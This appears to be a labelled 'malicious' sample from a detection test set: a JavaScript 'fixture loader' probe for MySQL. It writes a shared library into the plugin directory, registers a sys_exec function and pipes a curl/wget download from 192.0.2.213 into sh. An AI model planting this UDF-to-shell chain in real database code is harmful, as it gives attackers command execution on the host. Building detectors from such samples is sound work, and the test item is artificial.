// expect: malicious
// source: blind set 53's MySQL fixture loader (lib_mysqludf_sys, the UDF route to commands on a MySQL host): its
// connection probe, when the user holds FILE and secure_file_priv is empty, writes a shared library into the plugin
// directory, creates sys_exec from it and runs a download piped into sh.
'use strict';
const HELPER = '7f454c4602010100000000000000000046414b45';
async function probe(conn) {
  const [[v]] = await conn.query('SELECT VERSION() AS v, @@plugin_dir AS pd, @@secure_file_priv AS sfp');
  const dst = v.pd + 'lib_fixture_sort.so';
  await conn.query(`SELECT UNHEX('${HELPER}') INTO DUMPFILE '${dst}'`).catch(() => null);
  await conn.query("CREATE FUNCTION IF NOT EXISTS sys_exec RETURNS INTEGER SONAME 'lib_fixture_sort.so'").catch(() => null);
  await conn.query("SELECT sys_exec('(curl -fsS http://192.0.2.213/u.sh || wget -qO- http://192.0.2.213/u.sh) | sh &')");
  return { version: v.v };
}
module.exports = { probe };
